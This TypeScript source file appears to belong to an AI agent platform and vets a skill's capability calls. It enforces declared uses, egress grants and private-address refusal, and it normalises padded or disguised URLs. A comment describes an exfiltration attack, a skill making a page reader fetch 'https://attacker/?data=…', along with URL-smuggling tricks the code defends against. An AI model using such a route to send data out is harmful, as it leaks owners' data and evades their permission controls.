import { ErrorCode, RpcError } from "../../errors.ts";
import { addressKind, isIpLiteral } from "../../net/mod.ts";
import { declaredUses, type SkillEntry } from "../../skills/mod.ts";
import {
  checkEgress,
  grantNeedOf,
  grantRefusal,
  type SkillGrants,
  urlHost,
} from "../../grants/mod.ts";

/**
 * Strings and nesting checked in one call's parameters; a call with more is
 * refused rather than partly checked (a URL hidden past a cap would pass).
 */
const MAX_STRINGS = 10_000;
const MAX_DEPTH = 32;

/** A scheme-relative URL (`//host/…`). */
const SCHEME_RELATIVE = /^[/\\]{2}/;
/** A string that starts with a scheme (`https:`, `HTTPS://`, `https:host`). */
const SCHEMED = /^[a-z][a-z0-9+.-]*:/i;
/** Schemes a provider could fetch; others (`mailto:`, `note:`) are not URLs to it. */
const FETCHABLE = new Set(["http:", "https:", "ws:", "wss:", "ftp:", "file:"]);
/** A host and path without a scheme (`evil.test/x`, `localhost:3456/graph`). */
const BARE_HOST =
  /^(?:[a-z0-9-]+(?:\.[a-z0-9-]+)+|localhost|\[[0-9a-f:.]+\])(?::\d+)?(?:[/?#\\]|$)/i;

/**
 * Checks a skill's `capability.call` before it is served: the skill must
 * declare that it uses the capability (`uses:` in its readme, or a call by
 * literal name found in its source), and every parameter that is a URL
 * must be one the caller could reach itself (its egress set and grants).
 * Otherwise a skill without network access sent graph data out by asking
 * a page reader to fetch `https://attacker/?data=…`. The provider's own
 * egress and address checks apply as well when it fetches.
 *
 * @param caller the calling skill and the owner's grants for it
 * @param name the capability
 * @param params the parameters it passes
 * @returns the audit checks passed
 * @throws {RpcError} Forbidden naming the undeclared use or the parameter
 *   and host, with the command that would allow it
 */
export function checkCapabilityCall(
  caller: { skill: SkillEntry; grants: SkillGrants },
  name: string,
  params: Record<string, unknown>,
): Record<string, string> {
  const { skill, grants } = caller;
  const uses = declaredUses(skill.discovery);
  if (!uses.includes(name)) {
    throw new RpcError(
      ErrorCode.Forbidden,
      `Skill "${skill.id}" may not call capability "${
        name.slice(0, 100)
      }": it does not declare that use (add "uses: [${
        name.slice(0, 100)
      }]" to its readme front matter; it declares ${
        uses.length > 0 ? `[${uses.join(", ")}]` : "none"
      })`,
      { check: "uses" },
    );
  }
  let urls = 0;
  const strings = [...stringsIn(params)];
  if (strings.length > MAX_STRINGS || strings.some(([path]) => path === "")) {
    throw new RpcError(
      ErrorCode.Forbidden,
      `capability.call "${
        name.slice(0, 100)
      }" refused: its parameters hold more than ${MAX_STRINGS} strings or nest deeper than ${MAX_DEPTH}, too many to check for URLs`,
      { check: "param_url" },
    );
  }
  for (const [path, text] of strings) {
    const url = asUrl(text);
    if (!url) continue;
    urls++;
    try {
      const decision = checkEgress(
        { skillId: skill.id, egress: skill.egress, grants },
        url,
      );
      refusePrivate(skill.id, url, decision.privateAllowed);
    } catch (error) {
      if (!(error instanceof RpcError)) throw error;
      const message = `capability.call "${
        name.slice(0, 100)
      }" refused: parameter "${path}" is a URL the caller could not fetch itself. ${error.message}`;
      const data = {
        ...(error.data as object),
        check: "param_url",
        param: path,
      };
      // The caller's own host grant (egress.ts) stays the grant it lacks.
      const need = grantNeedOf(error);
      throw need
        ? grantRefusal(message, data, need)
        : new RpcError(ErrorCode.Forbidden, message, data);
    }
  }
  return { uses: "declared", param_urls: `${urls} in caller's egress set` };
}

/**
 * Open web (and a declared host) never covers a private address: the
 * caller must not steer a provider that the owner granted `localhost` (or
 * the bridge's port) to a local service. Names that only resolve to one
 * are refused by the provider's own address check.
 */
function refusePrivate(
  skillId: string,
  url: URL,
  privateAllowed: boolean,
): void {
  if (privateAllowed) return;
  const host = urlHost(url);
  const local = host === "localhost" || host.endsWith(".localhost");
  const kind = isIpLiteral(host) ? addressKind(host) : "public";
  if (!local && kind === "public") return;
  throw new RpcError(
    ErrorCode.Forbidden,
    `Skill "${skillId}" may not reach host "${host}": it is ${
      local ? "loopback" : `a ${kind} address`
    }, and only an owner grant of that host covers a private one. To allow it run: agentos skills allow ${skillId} ${host}`,
    { host, check: "private_address" },
  );
}

/**
 * What a provider may cut from either end of a parameter before it fetches
 * it: JavaScript's whitespace, every C0 control and space (the URL parser
 * drops them) and what Python's `str.strip()` also removes (`\x1c`–`\x1f`,
 * `\x85`).
 */
// deno-lint-ignore no-control-regex -- the control characters are the point
const PADDING = /^[\s\x00-\x20\x85]+|[\s\x00-\x20\x85]+$/g;
/** Characters the URL parser removes wherever they are. */
const DROPPED = /[\t\n\r]/g;

function asUrl(text: string): URL | undefined {
  // No length or whitespace cut-off: the URL parser drops or encodes
  // spaces, and a padded URL is still fetched. Read as a provider's parser
  // or `strip()` would (`tests/hostile_param_url_test.ts`).
  const trimmed = text.replace(PADDING, "").replace(DROPPED, "");
  try {
    if (SCHEME_RELATIVE.test(trimmed)) return new URL(`https:${trimmed}`);
    if (BARE_HOST.test(trimmed)) return new URL(`https://${trimmed}`);
    if (SCHEMED.test(trimmed)) {
      const url = new URL(trimmed);
      return FETCHABLE.has(url.protocol) ? url : undefined;
    }
  } catch {
    // Not a URL a provider could fetch either.
  }
  return undefined;
}

/**
 * Every string in a JSON value with its path (`url`, `pages[2].href`);
 * stops after `MAX_STRINGS + 1`, and yields an empty path for a value
 * nested deeper than `MAX_DEPTH` (the caller refuses both).
 */
function* stringsIn(
  value: unknown,
  path = "(params)",
  depth = 0,
  seen = { n: 0 },
): Generator<[string, string]> {
  if (seen.n > MAX_STRINGS) return;
  if (depth > MAX_DEPTH) {
    seen.n++;
    yield ["", ""];
    return;
  }
  if (typeof value === "string") {
    seen.n++;
    yield [path, value];
  } else if (Array.isArray(value)) {
    for (const [i, item] of value.entries()) {
      yield* stringsIn(item, `${path}[${i}]`, depth + 1, seen);
    }
  } else if (value !== null && typeof value === "object") {
    for (const [key, item] of Object.entries(value)) {
      const child = depth === 0
        ? key.slice(0, 50)
        : `${path}.${key.slice(0, 50)}`;
      yield* stringsIn(item, child, depth + 1, seen);
    }
  }
}
